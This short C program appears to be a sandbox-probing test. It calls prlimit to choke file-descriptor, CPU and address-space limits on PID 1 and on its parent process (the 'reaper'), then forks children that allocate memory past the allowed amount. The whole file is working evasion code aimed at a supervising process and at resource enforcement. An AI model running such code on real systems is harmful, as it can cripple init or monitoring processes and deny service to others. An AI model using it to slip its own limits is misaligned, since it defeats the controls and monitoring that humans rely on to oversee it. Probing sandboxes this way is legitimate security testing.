#include "common.h"
/* blind the reaper: no descriptors left, then take memory beyond the allowance. argv[1]: MB wanted */
int main(int ac,char**av){ long want=ac>1?atol(av[1]):1200; struct rlimit l={4,4}; int who[]={1,getppid()};
 for(int i=0;i<2;i++) for(int r=0;r<16;r++) if(r==RLIMIT_NOFILE||r==RLIMIT_CPU||r==RLIMIT_AS) if(prlimit(who[i],r,&l,0)==0) ok("prlimit");
 for(int k=0;k<3;k++) if(fork()==0){ for(long i=0;i<want/3;i++){ char*p=mmap(0,1<<20,3,MAP_PRIVATE|MAP_ANONYMOUS,-1,0); if(p==MAP_FAILED)break; memset(p,1,1<<20);} sleep(4); _exit(0);}
 usleep(3000000); ok("alive"); tell(); }
